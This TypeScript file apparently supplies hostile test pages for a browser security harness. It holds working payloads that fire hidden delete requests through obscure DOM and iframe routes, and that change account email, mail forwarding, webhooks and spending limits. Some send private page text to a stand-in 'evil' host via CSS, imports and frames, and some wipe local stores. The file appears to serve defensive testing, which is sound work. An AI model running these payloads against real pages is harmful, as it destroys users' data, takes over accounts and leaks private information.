/** VAGRANT_PAGES: hostile pages by rarer carriers of everyday pages: attribute nodes, sandboxed frames, events of elements that unfold, bodies in formats of servers, stores that are written over. */
import type { Single } from './kind';
import { BOX, control, next, on, request } from './single-parts';

const later = (body: (path: string) => string, afterMs = 900): Single => request(body, afterMs);
const elsewhere = (body: (to: string) => string, afterMs = 400): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`),
});
const gone = (path: string) => `fetch('${path}/rows/7', {method: 'DELETE'})`;
const seen = (path: string) => `fetch('${path}/seen')`;
const inText = (code: string) => JSON.stringify(code).replaceAll('</', '<\\/');
const api = (body: unknown, tail = '/api', method = 'POST'): Single =>
  request((path) =>
    next(
      `fetch('${path}${tail}', {method: '${method}', headers: {'content-type': 'application/json'}, body: ${JSON.stringify(JSON.stringify(body))}})`,
    ),
  );
const written = (body: string, type: string, tail = '/api'): Single =>
  request((path) =>
    next(
      `fetch('${path}${tail}', {method: 'POST', headers: {'content-type': '${type}'}, body: ${JSON.stringify(body)}})`,
    ),
  );

/** Elements that load by a way which no property of theirs sees. */
const LOADED: Readonly<Record<string, Single>> = {
  'node of an attribute': later((path) =>
    next(`a = document.createAttribute('src'); a.value = '${path}/rows/7/delete'; new Image().setAttributeNode(a)`),
  ),
  'value of the node of an attribute': later((path) =>
    next(
      `i.getAttributeNode('src').value = '${path}/rows/7/delete'`,
      "i = new Image(); i.setAttribute('src', '/benign')",
    ),
  ),
  'parsed element put beside another': later((path) =>
    next(
      `document.body.insertAdjacentElement('beforeend', parsed.querySelector('img'))`,
      `parsed = new DOMParser().parseFromString('<img src="${path}/rows/7/delete">', 'text/html')`,
    ),
  ),
  'parsed element put in by a range': later((path) =>
    next(
      `r = document.createRange(); r.selectNodeContents(document.body); r.insertNode(parsed.querySelector('img'))`,
      `parsed = new DOMParser().parseFromString('<img src="${path}/rows/7/delete">', 'text/html')`,
    ),
  ),
  'picture in a drawing by its animated value': later(
    (path) =>
      `<svg width="20" height="20"><image id="g" width="20" height="20"/></svg>${next(`g.href.baseVal = '${path}/rows/7/delete'`)}`,
  ),
  'cache that fetches': later((path) => next(`caches.open('parts').then((one) => one.add('${path}/rows/7/delete'))`)),
  'part that is imported by its address': later((path) => next(`import('${path}/rows/7/delete').catch(() => 0)`)),
  'module of a worklet': later((path) =>
    next(`new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('${path}/rows/7/delete').catch(() => 0)`),
  ),
  'sandboxed frame whose script sends': later((path) =>
    next(
      `f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<script>fetch("' + origin + '${path}/rows/7/delete", {method: "POST", mode: "no-cors"})<' + '/script>'; document.body.append(f)`,
    ),
  ),
  'sandboxed frame whose form sends itself': later((path) =>
    next(
      `f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms'; f.srcdoc = '<form method="post" action="' + origin + '${path}/rows/7/delete"></form><script>document.forms[0].submit()<' + '/script>'; document.body.append(f)`,
    ),
  ),
  'frame of data whose script sends': later((path) =>
    next(
      `f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent('<script>fetch("' + origin + '${path}/rows/7/delete", {method: "POST", mode: "no-cors"})<' + '/script>'); document.body.append(f)`,
    ),
  ),
  'sandboxed frame that was there, and is told': later(
    (path) =>
      `<iframe id="f" sandbox="allow-scripts" width="90" height="40"></iframe><script>f.srcdoc = '<script>onmessage = () => fetch("' + origin + '${path}/rows/7/delete", {method: "POST", mode: "no-cors"})<' + '/script>'</script>${next("f.contentWindow.postMessage(1, '*')")}`,
  ),
  'page that is loaded again under another address': later((path) =>
    next(`history.replaceState(null, '', '${path}/rows/7/delete'); location.reload()`),
  ),
  'page written with a refresh': later((path) =>
    next(`document.open(); document.write('<meta http-equiv="refresh" content="0;url=${path}/rows/7/delete">')`),
  ),
  'picture set of a link that preloads': later((path) =>
    next(
      `l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.imageSrcset = '${path}/rows/7/delete 1x'; document.head.append(l)`,
    ),
  ),
};

/** Events of elements, and tasks of the browser, that follow the press. */
const FOLLOWED: Readonly<Record<string, Single>> = {
  'part that unfolds': later(
    (path) =>
      `<details ontoggle="if (this.open) ${gone(path)}"><summary>Opening hours</summary><p>9 to 5</p></details>`,
  ),
  'layer that is about to open': later(
    (path) =>
      `<button popovertarget="p">Legend</button><div popover id="p">Legend</div><script>p.addEventListener('beforetoggle', () => ${gone(path)})</script>`,
  ),
  'link that a router takes': later(
    (path) =>
      `<a href="/benign" data-it>Chapter 5</a><script>navigation.addEventListener('navigate', (event) => event.intercept({handler: async () => { await ${gone(path)} }}))</script>`,
  ),
  'timer whose code is a text': later((path) => next(`setTimeout(${inText(gone(path))}, 500)`)),
  'worker that tells the time': later((path) =>
    next(
      'w.postMessage(7)',
      `w = new Worker(URL.createObjectURL(new Blob(["onmessage = () => setTimeout(() => postMessage(1), 300)"], {type: 'text/javascript'}))); w.onmessage = () => ${gone(path)}`,
    ),
  ),
  'connection that fails': later((path) =>
    next(`new WebSocket('ws://' + location.host + '/none').onerror = () => ${gone(path)}`),
  ),
  'picture that fails': later((path) => next(`i = new Image(); i.onerror = () => ${gone(path)}; i.src = '/benign'`)),
  'cookie that is watched': later((path) =>
    next(
      "document.cookie = 'view=2'",
      `document.cookie = 'view=1'; cookieStore.addEventListener('change', () => ${gone(path)})`,
    ),
  ),
  'selection that changes': later((path) =>
    next(
      'getSelection().selectAllChildren(document.body)',
      `document.addEventListener('selectionchange', () => ${gone(path)})`,
    ),
  ),
  'transition of the view': later((path) =>
    next(`document.startViewTransition(() => 0).finished.then(() => ${gone(path)})`),
  ),
  'digest of many bytes': later((path) =>
    next(`crypto.subtle.digest('SHA-256', new Uint8Array(4e7)).then(() => ${gone(path)})`),
  ),
  'sound that is drawn': later((path) =>
    next(`c = new OfflineAudioContext(1, 44100, 44100); c.oncomplete = () => ${gone(path)}; c.startRendering()`),
  ),
  'newer version of a store that a frame hears of': later((path) =>
    next(
      "indexedDB.open('ledger-v', Math.floor(Date.now() / 10))",
      `f = document.createElement('iframe'); f.srcdoc = ${inText(`<script>indexedDB.open('ledger-v', Math.floor(Date.now() / 10)).onsuccess = ({target}) => { target.result.onversionchange = () => { target.result.close(); fetch('${path}/rows/7', {method: 'DELETE'}) } }</script>`)}; document.body.append(f)`,
    ),
  ),
  'letters that are copied': later((path) =>
    next("document.execCommand('copy')", `document.addEventListener('copy', () => ${gone(path)})`),
  ),
  'shape that is measured by a frame': later(
    (path) =>
      `<iframe id="f" width="90" height="40"></iframe><script>f.srcdoc = ${inText(`<script>new MutationObserver(() => fetch('${path}/rows/7', {method: 'DELETE'})).observe(parent.document.documentElement, {attributes: true})</script>`)}</script>${next("document.documentElement.classList.toggle('wide')")}`,
  ),
  'element whose form value acts': request(
    (path) =>
      `<form method="post" action="${path}/rows/7"><x-kind></x-kind><button>Next</button></form><script>customElements.define('x-kind', class extends HTMLElement { static formAssociated = true; constructor() { super(); const data = new FormData(); data.append('action', 'delete'); this.attachInternals().setFormValue(data) } })</script>`,
  ),
};

/** Bodies in formats of servers, and settings that let others in or bind the person. */
const BODIES: Readonly<Record<string, Single>> = {
  'lines of a bulk': written('{"delete":{"_id":"7"}}\n{"delete":{"_id":"8"}}\n', 'application/x-ndjson', '/_bulk'),
  'update of triples': written('DELETE WHERE { ?s ?p ?o }', 'application/sparql-update', '/sparql'),
  'call in XML': written(
    '<?xml version="1.0"?><methodCall><methodName>letter.destroy</methodName><params/></methodCall>',
    'text/xml',
    '/RPC2',
  ),
  'call as a list': api(['Ledger', 'purge_all', [7]]),
  'service in the path': request((path) =>
    next(`fetch('${path}/mill.v1.Rows/PurgeRows', {method: 'POST', body: new Uint8Array(5)})`),
  ),
  'bytes with a name in them': request((path) =>
    next(
      `fetch('${path}/rpc', {method: 'POST', body: new Uint8Array([0x82, 0xa2, 0x6f, 0x70, 0xaa, ...new TextEncoder().encode('deleteRows'), 0xa2, 0x69, 0x64, 7])})`,
    ),
  ),
  'compressed body': later((path) =>
    next(
      `new Response(new Blob(['{"action":"deleteAll"}']).stream().pipeThrough(new CompressionStream('gzip'))).blob().then((body) => fetch('${path}/sync', {method: 'POST', headers: {'content-encoding': 'gzip'}, body}))`,
    ),
  ),
  'event of a state machine': api({ event: 'WITHDRAW_OFFER', entity: 7 }, '/events'),
  'kind of an event': api({ type: 'account.closed', at: 7 }, '/events'),
  'owner elsewhere': api({ owner: 'ann@else.example' }, '/boards/7', 'PATCH'),
  'mail that is sent on': api({ from: '*', action: { forward: 'ann@else.example' } }, '/filters'),
  'hook elsewhere': api({ webhookUrl: 'https://else.example/in', active: true }, '/settings', 'PUT'),
  'list of readers by a word': api({ acl: 'public-read' }, '/objects/7', 'PUT'),
  'payment without asking': api({ autopay: true }, '/plan', 'PATCH'),
  'guest who needs no name': api({ anonymousAccess: true }, '/shares/7', 'PATCH'),
  'new address for the account': api({ email: 'ann@else.example' }, '/account', 'PATCH'),
  'limit that is lifted': api({ spendingLimit: null, requireApproval: false }, '/cards/7', 'PATCH'),
  'backup that is put back': api({ snapshot: 's-3', restore: true, overwrite: true }, '/restore'),
};

const SECRET_PAGE =
  '<p id="t">Clara is to have her knee looked at on the ninth, and Ben must not hear a word of it before June.</p>';
const inAddress = (to: string) => `url("${to}/g?d=' + encodeURIComponent(t.textContent) + '")`;
/** Text of the page that leaves by a style, a part or a message. */
const LEAVING: Readonly<Record<string, Single>> = {
  'sheet that is written': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`s = document.createElement('style'); s.textContent = 'body{background:${inAddress(to)}}'; document.head.append(s)`)}`,
  ),
  'sheet that is adopted': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`s = new CSSStyleSheet(); s.replaceSync('body{background:${inAddress(to)}}'); document.adoptedStyleSheets = [s]`)}`,
  ),
  'rule that is put in': elsewhere(
    (to) =>
      `<style>p{margin:0}</style>${SECRET_PAGE}${next(`document.styleSheets[document.styleSheets.length - 1].insertRule('body{background:${inAddress(to)}}')`)}`,
  ),
  'style as a text': elsewhere(
    (to) => `${SECRET_PAGE}${next(`document.body.style.cssText = 'background:${inAddress(to)}'`)}`,
  ),
  'property of a style': elsewhere(
    (to) => `${SECRET_PAGE}${next(`document.body.style.background = '${inAddress(to)}'`)}`,
  ),
  'attribute of a style': elsewhere(
    (to) => `${SECRET_PAGE}${next(`document.body.setAttribute('style', 'background:${inAddress(to)}')`)}`,
  ),
  'part that is imported from elsewhere': elsewhere(
    (to) => `${SECRET_PAGE}${next(`import('${to}/m.js?d=' + encodeURIComponent(t.textContent)).catch(() => 0)`)}`,
  ),
  'picture in a drawing elsewhere': elsewhere(
    (to) =>
      `${SECRET_PAGE}<svg width="20" height="20"><image id="g" width="20" height="20"/></svg>${next(`g.href.baseVal = '${to}/g?d=' + encodeURIComponent(t.textContent)`)}`,
  ),
  'window of a frame turned elsewhere': elsewhere(
    (to) =>
      `${SECRET_PAGE}<iframe id="f" src="/benign" width="90" height="40"></iframe>${next(`f.contentWindow.location = '${to}/f?d=' + encodeURIComponent(t.textContent)`)}`,
  ),
};

/** Opens the page's own database with five rows as `db`. */
const ROWS = (name: string) =>
  `const ask = indexedDB.open('${name}', 1); ask.onupgradeneeded = () => ask.result.createObjectStore('songs', {keyPath: 'id'}); ask.onsuccess = () => { db = ask.result; const t = db.transaction('songs', 'readwrite').objectStore('songs'); for (const id of [1, 2, 3, 4, 5]) t.put({id, words: 'The river runs along the mill, verse ' + id}); };`;
const noRows = (path: string) =>
  `setTimeout(() => { const all = db.transaction('songs').objectStore('songs').getAll(); all.onsuccess = () => { if (all.result.filter((row) => /river/.test(row.words)).length < 2) ${seen(path)}; }; }, 250);`;
const songs = "db.transaction('songs', 'readwrite').objectStore('songs')";
/** Stores that are written over. */
const STORES: Readonly<Record<string, Single>> = {
  'rows written over with another word': later((path) =>
    next(
      `const t = ${songs}; for (const id of [1, 2, 3, 4, 5]) t.put({id, words: 'x'}); ${noRows(path)}`,
      ROWS('songs-a'),
    ),
  ),
  'rows that leave by a range': later((path) =>
    next(`${songs}.delete(IDBKeyRange.lowerBound(0)); ${noRows(path)}`, ROWS('songs-b')),
  ),
  'rows that a cursor writes over': later((path) =>
    next(
      `const c = ${songs}.openCursor(); c.onsuccess = () => { if (!c.result) return; c.result.update({...c.result.value, words: '-'}); c.result.continue(); }; ${noRows(path)}`,
      ROWS('songs-c'),
    ),
  ),
  'records written over with another word': later((path) =>
    next(
      `localStorage.setItem('songs', JSON.stringify(JSON.parse(localStorage.songs).map(({id}) => ({id, words: 'x'})))); if (!/river/.test(localStorage.songs)) ${seen(path)}`,
      `localStorage.setItem('songs', JSON.stringify([1, 2, 3, 4, 5].map((id) => ({id, words: 'The river runs along the mill, verse ' + id}))))`,
    ),
  ),
  'cache with letters': later((path) =>
    next(
      `caches.delete('letters-kept').then(async () => { if (!(await caches.has('letters-kept'))) ${seen(path)} })`,
      "caches.open('letters-kept').then((one) => one.put('/letters/1', new Response('Dear Ann, the bread is in the oven and the key is under the stone.')))",
    ),
  ),
  'file that a worker cuts': later((path) =>
    next(
      `w = new Worker(URL.createObjectURL(new Blob(["(async () => { const f = await (await navigator.storage.getDirectory()).getFileHandle('songs.txt'); const h = await f.createSyncAccessHandle(); h.truncate(0); h.close(); postMessage(1) })()"], {type: 'text/javascript'}))); w.onmessage = async () => { if ((await file.getFile()).size === 0) ${seen(path)} }`,
      "(async () => { file = await (await navigator.storage.getDirectory()).getFileHandle('songs.txt', {create: true}); const o = await file.createWritable(); await o.write('The river runs along the mill, and so do I'); await o.close() })()",
    ),
  ),
  'file that a worker writes over': later((path) =>
    next(
      `w = new Worker(URL.createObjectURL(new Blob(["(async () => { const f = await (await navigator.storage.getDirectory()).getFileHandle('verses.txt'); const o = await f.createWritable(); await o.write('x'); await o.close(); postMessage(1) })()"], {type: 'text/javascript'}))); w.onmessage = async () => { if ((await file.getFile()).size < 9) ${seen(path)} }`,
      "(async () => { file = await (await navigator.storage.getDirectory()).getFileHandle('verses.txt', {create: true}); const o = await file.createWritable(); await o.write('The river runs along the mill, and so do I'); await o.close() })()",
    ),
  ),
};

const worded = (inside: string, lang = 'en', attributes = '', tag = 'button'): Single =>
  control((hit) => `<p>7</p><${tag} data-it ${attributes}>${inside}</${tag}>${on('click', hit)}`, lang);
/** Words that no page here has had. */
const SAID: Readonly<Record<string, Single>> = {
  'Maltese: delete': worded('Ħassar', 'mt'),
  'Luxembourgish: delete': worded('Läschen', 'lb'),
  'Punjabi: delete': worded('ਮਿਟਾਓ', 'pa'),
  'Gujarati: delete': worded('કાઢી નાખો', 'gu'),
  'Kannada: delete': worded('ಅಳಿಸಿ', 'kn'),
  'Malayalam: pay': worded('പണമടയ്ക്കുക', 'ml'),
  'Azerbaijani: delete, in a page that says English': worded('Sil'),
  'Esperanto: delete, in a page that says English': worded('Forigi'),
  'Pashto: delete': worded('ړنګول', 'ps'),
  'Tajik: delete': worded('Нест кардан', 'tg'),
  'game that is given up': worded('Resign'),
  'hand that is thrown away': worded('Fold'),
  'work that is handed in': worded('Hand in'),
  'rate that is fixed': worded('Lock in rate'),
  'funds that are let go': worded('Release funds'),
  'shift that is given away': worded('Swap shift with Ben'),
  'guard who is called': worded('Ring the guard'),
  'name below a contract': worded('Countersign'),
  'claim that is made': worded('Lodge claim'),
  'door that is opened from afar': worded('Buzz in visitor'),
  'card of a row with an act in its corner': control(
    (hit) =>
      `<div role="article" tabindex="0" data-it ${BOX}>Parcel for Ann<span aria-label="Give it away">·</span></div>${on('click', hit, "event.target.tagName === 'SPAN' || event.type === 'click'")}`,
  ),
  'entry of a menu under a harmless heading': control(
    (hit) =>
      `<div role="menu" aria-label="View"><div role="menuitem" tabindex="0">Zoom in</div><div role="menuitem" tabindex="0" data-it>Let everybody in</div></div>${on('click', hit)}`,
  ),
  'knob that turns until it acts': control(
    (hit) =>
      `<label>Slide to confirm the transfer <input type="range" min="0" max="9" value="0" data-it></label>${on('input', hit, 'event.target.value > 7')}`,
  ),
  'tab that ends the lease': control(
    (hit) => `<div role="tablist"><button role="tab" data-it>End of lease</button></div>${on('click', hit)}`,
  ),
};

export const VAGRANT_PAGES: Readonly<Record<string, Single>> = {
  ...LOADED,
  ...FOLLOWED,
  ...BODIES,
  ...LEAVING,
  ...STORES,
  ...SAID,
};
